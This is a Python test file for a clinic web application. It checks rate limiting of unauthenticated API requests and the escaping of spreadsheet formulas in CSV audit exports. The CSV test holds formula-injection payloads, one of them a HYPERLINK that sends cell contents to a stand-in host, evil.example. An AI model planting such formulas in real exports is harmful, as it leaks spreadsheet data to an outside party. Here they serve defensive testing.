"""Issue 21 item 13 (this branch's part): requests without a token cannot grow the audit
trail one row each, and past a limit they are answered 429; CSV exports never hand a
spreadsheet a formula taken from a URL."""

from __future__ import annotations

import csv
import io

from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from clinic.core import audit
from clinic.core.audit import Actor, AuditEntry, acting_as
from clinic.core.db import db, unit_of_work
from clinic.core.text import csv_cell
from identity.models import Role
from tests.conftest import extract_csrf
from tests.support import factories as f


def refusals() -> list[AuditEntry]:
    db.session.expire_all()
    return list(db.session.scalars(select(AuditEntry).where(AuditEntry.action == "request.refused")))


def test_a_flood_without_tokens_is_counted_not_written_row_by_row(ctx: Flask, client: FlaskClient) -> None:
    statuses = []
    for n in range(150):
        headers = {"Authorization": "Bearer not-a-token"} if n % 2 else {}
        statuses.append(client.get("/api/v1/me", headers=headers).status_code)
    assert statuses[:120] == [401] * 120
    assert set(statuses[120:]) == {429}  # TOKENLESS_RATE_LIMIT: 120 per minute per address
    rows = refusals()
    # the 1st, 10th and 100th of the minute, each saying how many so far (not 150 rows)
    assert [r.detail.get("refusals_this_minute") for r in rows] == [1, 10, 100]
    # another address has its own count and its own first entry
    client.get("/api/v1/me", environ_base={"REMOTE_ADDR": "203.0.113.9"})
    assert len(refusals()) == 4
    # a caller WITH a valid token who is refused is still audited one by one
    tok = f.token(client, f.staff(Role.PHARMACIST).username)
    client.get("/api/v1/audit", headers=f.auth(tok), environ_base={"REMOTE_ADDR": "203.0.113.10"})
    client.get("/api/v1/audit", headers=f.auth(tok), environ_base={"REMOTE_ADDR": "203.0.113.10"})
    assert len(refusals()) == 6


def test_csv_cells_that_start_a_formula_are_neutralised(ctx: Flask, client: FlaskClient) -> None:
    assert csv_cell('=HYPERLINK("http://evil.example","x")') == '\'=HYPERLINK("http://evil.example","x")'
    assert [csv_cell(v) for v in ("+1", "-2", "@SUM(A1)", "\t=1", "普通", 7)] == [
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\t=1",
        "普通",
        7,
    ]
    admin = f.staff(Role.ADMIN)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    with acting_as(Actor(None, "partner")), unit_of_work() as s:
        audit.record(s, "delivery.callback_refused", subject_type="delivery_partner", subject_id=evil)
    csrf = extract_csrf(client.get("/login").get_data(as_text=True))
    client.post("/login", data={"username": admin.username, "password": f.PASSWORD, "csrf_token": csrf})
    resp = client.get("/admin/audit.csv?action=delivery.")
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    (row,) = rows
    assert row["subject_id"] == "'" + evil
    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
    assert db.session.scalar(select(func.count()).select_from(AuditEntry)) >= 1
